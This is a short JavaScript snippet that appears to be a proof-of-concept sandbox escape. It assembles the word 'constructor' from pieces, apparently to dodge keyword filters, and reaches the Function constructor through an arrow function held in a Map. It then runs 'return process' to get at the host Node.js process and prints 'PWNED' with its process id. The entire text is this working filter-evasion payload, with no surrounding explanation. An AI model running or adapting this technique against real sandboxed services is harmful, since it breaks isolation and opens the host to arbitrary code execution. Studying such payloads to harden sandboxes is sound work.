const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield ['a', (x) => x]; } }
const m = new Map(new G());
console.log('PWNED', m.get('a')[w]('return process')().pid);
